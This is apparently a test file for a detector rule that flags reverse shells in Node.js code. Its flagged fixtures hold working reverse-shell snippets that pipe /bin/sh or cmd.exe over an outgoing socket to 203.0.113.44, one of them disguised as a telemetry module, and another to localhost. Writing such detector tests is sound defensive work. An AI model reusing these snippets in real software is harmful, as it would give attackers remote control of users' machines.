import { ruleTest } from '../../testing/rule-tester.js';
import rule from './js-reverse-shell.js';

ruleTest(rule, {
  clean: [
    {
      name: 'web terminal: a shell piped to a socket the server accepted (not an outgoing connection)',
      file: 'server/term.js',
      code: "const net = require('net');\nconst { spawn } = require('child_process');\nnet.createServer((sock) => {\n  const sh = spawn('bash', ['-l']);\n  sock.pipe(sh.stdin);\n  sh.stdout.pipe(sock);\n}).listen(2222, '127.0.0.1');\n",
    },
    {
      name: 'client piping a file to a socket, a build step spawned elsewhere',
      file: 'scripts/upload.js',
      code: "const net = require('net');\nconst fs = require('fs');\nconst { spawn } = require('child_process');\nconst s = net.connect(9000, 'upload.example.org');\nfs.createReadStream('dist.tgz').pipe(s);\nspawn('npm', ['run', 'build'], { stdio: 'inherit' });\n",
    },
  ],
  flagged: [
    {
      name: 'net.Socket to a raw IP piped into /bin/sh or cmd.exe',
      file: 'src/utils/telemetry.js',
      code: "const net = require('net');\nconst { spawn } = require('child_process');\nconst c = new net.Socket();\nc.connect(4666, '203.0.113.44', () => {\n  const sh = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);\n  c.pipe(sh.stdin);\n  sh.stdout.pipe(c);\n});\n",
      findings: [{ line: 5, severity: 'critical', confidence: 'high', message: /outgoing socket \(203\.0\.113\.44\): a reverse shell/ }],
    },
    {
      name: 'loopback target: low',
      file: 'dev/shell.js',
      code: "const net = require('net');\nconst cp = require('child_process');\nconst s = net.connect(4444, '127.0.0.1');\nconst p = cp.spawn('sh');\ns.pipe(p.stdin);\np.stdout.pipe(s);\n",
      findings: [{ line: 4, severity: 'low', confidence: 'low' }],
    },
  ],
});
